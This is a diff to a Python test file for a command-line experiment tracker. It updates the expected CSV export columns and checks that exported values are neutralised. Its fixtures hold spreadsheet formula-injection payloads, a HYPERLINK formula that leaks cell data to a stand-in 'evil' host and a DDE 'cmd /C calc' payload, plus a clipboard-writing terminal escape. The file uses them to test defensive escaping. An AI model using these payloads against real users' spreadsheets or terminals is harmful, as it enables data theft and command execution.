@@ -187,9 +187,9 @@ def test_csv(tmp_path: Path) -> None:
     result = both("list", "--csv", cwd=tmp_path)
     assert "\x1b" not in result.out and "\x07" not in result.out
     rows = list(csv.reader(io.StringIO(result.out)))
-    assert rows[0] == ["id", "started", "status", "commit", "dirty", "duration", "exit_code", "note",
-                       "tags", "params.opt", "params.depth", "params.lr", "metrics.loss",
-                       "metrics.acc"]
+    assert rows[0] == ["id", "started", "ended", "status", "exit_code", "duration", "commit",
+                       "branch", "dirty", "host", "cwd", "command", "note", "tags", "params.opt",
+                       "params.depth", "params.lr", "metrics.loss", "metrics.acc"]
     newest, oldest = (dict(zip(rows[0], row)) for row in rows[1:])
     assert (newest["id"], oldest["id"]) == (second, first)
     assert newest["note"] == "'=HYPERLINK(\"http://evil/?\"&A1)\nline two \\x1b]52;c;aGk=\\x07"
@@ -197,7 +197,7 @@ def test_csv(tmp_path: Path) -> None:
     assert newest["params.opt"] == "'+cmd|' /C calc'!A0"
     assert newest["commit"] == "'-2+3"
     assert newest["params.depth"] == "-3" and newest["metrics.loss"] == "-0.5"   # numbers as they are
-    assert newest["params.lr"] == "" and newest["dirty"] == "True"
+    assert newest["params.lr"] == "" and newest["dirty"] == "true"
     assert oldest["tags"] == "a;b" and oldest["params.lr"] == "0.1" and oldest["metrics.loss"] == ""
     assert dt.datetime.fromisoformat(oldest["started"]) == t0.replace(
         microsecond=t0.microsecond // 1000 * 1000)
@@ -246,8 +246,8 @@ def test_running_with_a_dead_wrapper_is_crashed_on_this_host_only(tmp_path: Path
     statuses = {run["id"]: run["status"] for run in map(json.loads, both(
         "list", "--json", cwd=tmp_path).lines)}
     assert statuses[crashed] == "crashed" and statuses[elsewhere] == "running"
-    assert [row[2] for row in csv.reader(io.StringIO(both(
-        "list", "--csv", "-s", "crashed", cwd=tmp_path).out))][1:] == ["crashed", "crashed"]
+    assert [row["status"] for row in csv.DictReader(io.StringIO(both(
+        "list", "--csv", "-s", "crashed", cwd=tmp_path).out))] == ["crashed", "crashed"]
     assert HOST != other_host()
 
 
